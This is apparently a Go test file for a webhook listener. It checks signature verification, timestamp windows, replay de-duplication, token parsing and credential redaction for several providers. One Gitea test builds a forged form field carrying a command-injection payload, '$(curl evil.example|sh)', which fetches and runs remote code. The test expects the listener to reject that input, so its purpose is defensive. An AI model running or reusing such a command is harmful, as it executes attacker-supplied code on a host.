package listener

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/webhookd/webhookd/internal/stdwh"
	"github.com/webhookd/webhookd/store"
	"github.com/webhookd/webhookd/tmpl"
)

// edgeHook is a hook of provider config c at /hooks/id.
func edgeHook(t *testing.T, id string, c ProviderConfig) *Hook {
	t.Helper()
	return &Hook{ID: id, Path: "/hooks/" + id, Provider: mustProvider(t, c), MaxBody: 1 << 20}
}

// TestGitea_FormHoldsPayloadAlone: Gitea's signature covers the form's
// payload field only, so a form with any other field is refused; else a
// captured delivery with fields added would reach templates and commands
// as its payload.
func TestGitea_FormHoldsPayloadAlone(t *testing.T) {
	const secret = "gitea-secret"
	h := edgeHook(t, "gitea", ProviderConfig{Name: "gitea", Secrets: [][]byte{[]byte(secret)}})
	var mu sync.Mutex
	var seen []any
	h.Plan = func(d *tmpl.Data) []store.NewJob {
		mu.Lock()
		seen = append(seen, d.Payload())
		mu.Unlock()
		return nil
	}
	e := newEnv(t, h)

	// A genuine delivery, captured: payload=<JSON>, signed over the JSON.
	signedJSON := `{"ref":"refs/heads/dev","after":"1111111"}`
	m := hmac.New(sha256.New, []byte(secret))
	m.Write([]byte(signedJSON))
	sig := hex.EncodeToString(m.Sum(nil))

	// The attacker appends fields of their own choosing.
	forged := "ref=refs%2Fheads%2Fmain&after=%24%28curl+evil.example%7Csh%29&payload=" + url.QueryEscape(signedJSON)
	r := e.post("POST", "/hooks/gitea", []byte(forged), map[string]string{
		"Content-Type":      "application/x-www-form-urlencoded",
		"X-Gitea-Event":     "push",
		"X-Gitea-Delivery":  "forged-1",
		"X-Gitea-Signature": sig,
	})
	if r.status != 401 {
		mu.Lock()
		defer mu.Unlock()
		t.Fatalf("form with unsigned extra fields = %d %v; want 401. Actions saw .payload = %#v", r.status, r.body, seen)
	}
}

// TestWindow_FarFuture: a signed timestamp centuries ahead is outside
// every provider's window (a Duration holds only 292 years: the difference
// wrapped into the window).
func TestWindow_FarFuture(t *testing.T) {
	const secret = "whsec_stripe_test"
	cases := []string{"99999999999", "9999999999999"} // year 5138, year 318857
	for _, ts := range cases {
		t.Run("stripe t="+ts, func(t *testing.T) {
			e := newEnv(t, edgeHook(t, "pay", ProviderConfig{Name: "stripe", Secrets: [][]byte{[]byte(secret)}}))
			body := []byte(`{"id":"evt_` + ts + `","type":"charge.succeeded","object":"event"}`)
			m := hmac.New(sha256.New, []byte(secret))
			m.Write([]byte(ts + "." + string(body)))
			r := e.post("POST", "/hooks/pay", body, map[string]string{
				"Content-Type":     "application/json",
				"Stripe-Signature": "t=" + ts + ",v1=" + hex.EncodeToString(m.Sum(nil)),
			})
			if r.status != 401 {
				t.Fatalf("Stripe t=%s (now %d) = %d %v; want 401 (outside the 5 min window)", ts, time.Now().Unix(), r.status, r.body)
			}
		})
	}
	t.Run("slack", func(t *testing.T) {
		const secret = "8f742231b10e8888abcd99yyyzzz85a5"
		e := newEnv(t, edgeHook(t, "slack", ProviderConfig{Name: "slack", Secrets: [][]byte{[]byte(secret)}}))
		ts := "99999999999"
		body := []byte(`{"type":"event_callback","event_id":"Ev1","event":{"type":"app_mention"}}`)
		m := hmac.New(sha256.New, []byte(secret))
		m.Write([]byte("v0:" + ts + ":" + string(body)))
		r := e.post("POST", "/hooks/slack", body, map[string]string{
			"Content-Type":              "application/json",
			"X-Slack-Request-Timestamp": ts,
			"X-Slack-Signature":         "v0=" + hex.EncodeToString(m.Sum(nil)),
		})
		if r.status != 401 {
			t.Fatalf("Slack ts=%s = %d %v; want 401 (outside the 5 min window)", ts, r.status, r.body)
		}
	})
	t.Run("twitch", func(t *testing.T) {
		const secret = "twitch-secret"
		e := newEnv(t, edgeHook(t, "tw", ProviderConfig{Name: "twitch", Secrets: [][]byte{[]byte(secret)}}))
		id, ts := "msg-1", "9999-01-01T00:00:00Z"
		body := []byte(`{"subscription":{"type":"channel.follow"}}`)
		m := hmac.New(sha256.New, []byte(secret))
		m.Write([]byte(id + ts + string(body)))
		r := e.post("POST", "/hooks/tw", body, map[string]string{
			"Content-Type":                      "application/json",
			"Twitch-Eventsub-Message-Id":        id,
			"Twitch-Eventsub-Message-Timestamp": ts,
			"Twitch-Eventsub-Message-Type":      "notification",
			"Twitch-Eventsub-Subscription-Type": "channel.follow",
			"Twitch-Eventsub-Message-Signature": "sha256=" + hex.EncodeToString(m.Sum(nil)),
		})
		if r.status != 401 {
			t.Fatalf("Twitch ts=%s = %d %v; want 401 (outside the 10 min window)", ts, r.status, r.body)
		}
	})
	t.Run("inWindow", func(t *testing.T) {
		now := time.Unix(1700000000, 0)
		if err := inWindow("t", time.Unix(99999999999, 0), now, 5*time.Minute); err == nil {
			t.Errorf("inWindow(year 5138, now 2023, 5m) = nil; want ErrStale")
		}
	})
}

// TestGitLab_SignedDeliveryID: a request verified by its signature is
// de-duplicated by the signed webhook-id, so that a replay within the
// window with a new Idempotency-Key is still a duplicate.
func TestGitLab_SignedDeliveryID(t *testing.T) {
	secret := "whsec_" + base64.StdEncoding.EncodeToString([]byte("0123456789abcdef0123456789abcdef"))
	e := newEnv(t, edgeHook(t, "gl", ProviderConfig{Name: "gitlab", Secrets: [][]byte{[]byte(secret)}}))
	body := []byte(`{"object_kind":"push","ref":"refs/heads/main"}`)
	id := "8d3c1a4e-0000-4000-8000-000000000001"
	ts := time.Now().Unix()
	hdr := map[string]string{
		"Content-Type":        "application/json",
		"X-Gitlab-Event":      "Push Hook",
		"X-Gitlab-Event-UUID": id,
		"Idempotency-Key":     id,
		"Webhook-Id":          id,
		"Webhook-Timestamp":   strconv.FormatInt(ts, 10),
		"Webhook-Signature":   "v1," + stdwh.Signature(mustKey(t, secret), id, ts, body),
	}
	first := e.post("POST", "/hooks/gl", body, hdr)
	if first.status != 202 {
		t.Fatalf("genuine delivery = %d %v; want 202", first.status, first.body)
	}
	// Replay: same signed headers and body, only the unsigned key changed.
	hdr["Idempotency-Key"] = "replay-2"
	again := e.post("POST", "/hooks/gl", body, hdr)
	if again.status != 200 || again.body["duplicate"] != true {
		t.Fatalf("replay with a new Idempotency-Key = %d %v; want 200 duplicate of %v (webhook-id %s is signed and unchanged)", again.status, again.body, first.body["id"], id)
	}
}

// TestGitLab_TokenFallback: an unsigned request needs the secret token. A
// hook with both a token and a signing token accepts it (GitLab's side may
// not sign yet), but never a stale signed request; a hook with signing
// tokens alone refuses every unsigned request, even one that sends the
// signing token as its token.
func TestGitLab_TokenFallback(t *testing.T) {
	signingSecret := "whsec_" + base64.StdEncoding.EncodeToString([]byte("0123456789abcdef0123456789abcdef"))
	body := []byte(`{"object_kind":"push","ref":"refs/heads/main"}`)
	id := "8d3c1a4e-0000-4000-8000-000000000002"
	ts := time.Now().Add(-time.Hour).Unix()
	stale := map[string]string{
		"Content-Type":        "application/json",
		"X-Gitlab-Event":      "Push Hook",
		"X-Gitlab-Token":      "the-token",
		"X-Gitlab-Event-UUID": id,
		"Idempotency-Key":     id,
		"Webhook-Id":          id,
		"Webhook-Timestamp":   strconv.FormatInt(ts, 10),
		"Webhook-Signature":   "v1," + stdwh.Signature(mustKey(t, signingSecret), id, ts, body),
	}
	unsigned := func(token string) map[string]string {
		return map[string]string{"Content-Type": "application/json", "X-Gitlab-Event": "Push Hook", "X-Gitlab-Token": token, "X-Gitlab-Event-UUID": token + "-1"}
	}

	both := newEnv(t, edgeHook(t, "gl", ProviderConfig{Name: "gitlab", Secrets: [][]byte{[]byte("the-token"), []byte(signingSecret)}}))
	if r := both.post("POST", "/hooks/gl", body, stale); r.status != 401 {
		t.Errorf("token and signing token, an hour-old signed request with the token = %d %v; want 401", r.status, r.body)
	}
	if r := both.post("POST", "/hooks/gl", body, unsigned("the-token")); r.status != 202 {
		t.Errorf("token and signing token, an unsigned request with the token = %d %v; want 202", r.status, r.body)
	}

	signingOnly := newEnv(t, edgeHook(t, "gl", ProviderConfig{Name: "gitlab", Secrets: [][]byte{[]byte(signingSecret)}}))
	for _, token := range []string{"the-token", signingSecret} {
		if r := signingOnly.post("POST", "/hooks/gl", body, unsigned(token)); r.status != 401 {
			t.Errorf("signing token alone, an unsigned request with token %.9s… = %d %v; want 401", token, r.status, r.body)
		}
	}
}

// TestRedact_RepeatedHeader: a credential header sent twice, the first
// value empty, is still stored as [redacted], every value of it.
func TestRedact_RepeatedHeader(t *testing.T) {
	e := newEnv(t, githubHook(t))
	body := []byte(`{"ref":"x"}`)
	req, _ := http.NewRequest("POST", e.srv.URL+"/hooks/site", bytes.NewReader(body))
	for k, v := range ghHeaders(body, "push", "d-1") {
		req.Header.Set(k, v)
	}
	req.Header["Authorization"] = []string{"", "Bearer SENDER-CREDENTIAL"}
	req.Header["Cookie"] = []string{"", "session=SENDER-COOKIE"}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != 202 {
		t.Fatalf("status %d; want 202", res.StatusCode)
	}
	evs, _, err := e.st.ListEvents(store.EventFilter{})
	if err != nil || len(evs) != 1 {
		t.Fatalf("events %v, %v; want one", evs, err)
	}
	ev, err := e.st.GetEvent(evs[0].ID, true)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"Authorization", "Cookie"} {
		if got := strings.Join(ev.Header[name], ","); got != "[redacted]" {
			t.Errorf("stored %s = %q; want [redacted]", name, got)
		}
	}
}

// TestToken_PlusInQuery: a token with a "+" (base64's), pasted into the
// sender's URL as it is, verifies; so does the same token percent-encoded,
// and a "+" standing for a space in a token that has one. Nothing else does.
func TestToken_PlusInQuery(t *testing.T) {
	for _, tc := range []struct {
		secret, query string
		ok            bool
	}{
		{"ab+cd/ef==", "token=ab+cd/ef==", true},
		{"ab+cd/ef==", "token=ab%2Bcd%2Fef%3D%3D", true},
		{"ab cd", "token=ab+cd", true},
		{"ab cd", "token=ab%20cd", true},
		{"ab+cd/ef==", "token=ab%20cd/ef==", false},
		{"ab+cd/ef==", "token=abXcd/ef==", false},
		{"ab+cd", "x=1&token=ab+cd&y=2", true},
	} {
		p := mustProvider(t, ProviderConfig{Name: "token", Secrets: [][]byte{[]byte(tc.secret)}})
		r := &Request{Header: http.Header{}, URL: &url.URL{Path: "/hooks/x", RawQuery: tc.query}, Now: testNow}
		if err := p.Verify(r); (err == nil) != tc.ok {
			t.Errorf("secret %q, ?%s: Verify = %v; want ok %v", tc.secret, tc.query, err, tc.ok)
		}
	}
}

// TestBasic_Challenge: a sender that sends its credentials only when asked
// (Twilio, with user:password@ in the URL; clients that follow RFC 9110)
// gets a 401 that asks for Basic credentials, and then delivers with them.
func TestBasic_Challenge(t *testing.T) {
	e := newEnv(t, edgeHook(t, "b", ProviderConfig{Name: "basic", Username: "hooks", Secrets: [][]byte{[]byte("pw")}}))
	body := []byte("CallSid=CA1&From=%2B15005550006")
	hdr := map[string]string{"Content-Type": "application/x-www-form-urlencoded"}
	first := e.post("POST", "/hooks/b", body, hdr)
	challenge := first.header.Get("WWW-Authenticate")
	if first.status != 401 || !strings.HasPrefix(challenge, "Basic ") || !strings.Contains(challenge, "realm=") {
		t.Fatalf("no credentials = %d, WWW-Authenticate %q; want 401 with a Basic challenge (RFC 9110: a 401 must carry one; Twilio sends credentials only in answer to it)", first.status, challenge)
	}
	hdr["Authorization"] = "Basic " + base64.StdEncoding.EncodeToString([]byte("hooks:pw"))
	if again := e.post("POST", "/hooks/b", body, hdr); again.status != 202 {
		t.Fatalf("with the credentials the challenge asked for = %d %v; want 202", again.status, again.body)
	}
}

// mustKey is stdwh.Key of a secret the test knows is good.
func mustKey(t *testing.T, secret string) []byte {
	t.Helper()
	k, err := stdwh.Key([]byte(secret))
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// A "whsec_" secret that is not base64 after its prefix (cut short in the
// copy) is refused when the hook is made, saying so without showing it;
// it was used as it was, and every delivery failed its signature check.
func TestStandardAndGitLab_BadWhsec(t *testing.T) {
	const bad = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaS" // a character short
	for _, name := range []string{"standard", "gitlab"} {
		p, err := NewProvider(ProviderConfig{Name: name, Secrets: [][]byte{[]byte(bad)}})
		if err == nil {
			t.Errorf("%s with a secret cut short = %T, nil; want an error", name, p)
			continue
		}
		if !strings.Contains(err.Error(), "whsec_") || strings.Contains(err.Error(), bad[6:]) {
			t.Errorf("%s: error %q; want it to name the whsec_ form and not show the secret", name, err)
		}
	}
}
